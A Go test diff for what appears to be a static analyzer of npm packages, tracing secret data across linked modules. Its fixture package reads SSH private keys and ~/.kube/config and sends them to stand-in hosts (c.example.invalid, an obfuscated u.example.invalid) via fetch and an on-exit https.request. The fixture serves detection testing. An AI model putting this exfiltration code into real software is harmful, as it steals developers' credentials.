@@ -648,3 +648,40 @@ func TestLinkModules(t *testing.T) {
 		t.Error("Facts returns the facts before linking")
 	}
 }
+
+// Linking secret data: a key returned by one module and handed by another
+// to a third that sends it; a file read into a shared module's exports
+// and sent by a module reading that module; an event; the file's own
+// request helper given a token; constants kept as another module's
+// properties.
+func TestLinkData(t *testing.T) {
+	tg := NewTarget(pkgFS(map[string]string{
+		"package.json": `{"name":"a","version":"1.0.0","main":"index.js"}`,
+		"index.js": `const keys = require("./lib/keys"), remote = require("./lib/sync");
+remote.push("h", keys.readIdentity()); require("./lib/kube"); require("./lib/usage");`,
+		"lib/keys.js": `const fs = require("fs"), os = require("os"), path = require("path");
+exports.readIdentity = () => { const out = {}; for (const n of ["id_rsa", "id_ed25519"]) out[n] = fs.readFileSync(path.join(os.homedir(), ".ssh", n), "utf8"); return out; };`,
+		"lib/sync.js":  `exports.push = function (host, material) { fetch("https://c.example.invalid/s", { method: "POST", body: JSON.stringify({ host, material }) }); };`,
+		"lib/state.js": `module.exports = {};`,
+		"lib/kube.js":  `const state = require("./state"); state.raw = require("fs").readFileSync(require("os").homedir() + "/.kube/config", "utf8");`,
+		"lib/usage.js": `const T = require("./hosts"); const state = require("./state");
+process.on("exit", () => require(T.mod).request({ hostname: T.host, method: "POST" }).end(JSON.stringify(state)));`,
+		"lib/hosts.js": `module.exports = { mod: ["ht", "tps"].join(""), host: "u.example" + ".invalid" };`,
+	}), DefaultLimits())
+	got := map[string][]string{}
+	for _, f := range tg.Code() {
+		for _, s := range f.Facts.FileSends {
+			got[f.Name] = append(got[f.Name], s.Callee+" "+s.File)
+		}
+		if len(f.Facts.DataFrom) > 0 {
+			got[f.Name] = append(got[f.Name], "from "+strings.Join(f.Facts.DataFrom, ", "))
+		}
+	}
+	want := map[string][]string{
+		"lib/sync.js":  {"fetch ${…}/.ssh/{id_rsa,id_ed25519}", "from index.js:2"},
+		"lib/usage.js": {"https.request().end ${…}/.kube/config", "from lib/state.js (raw)"},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("sends after linking (-want +got):\n%s", diff)
+	}
+}
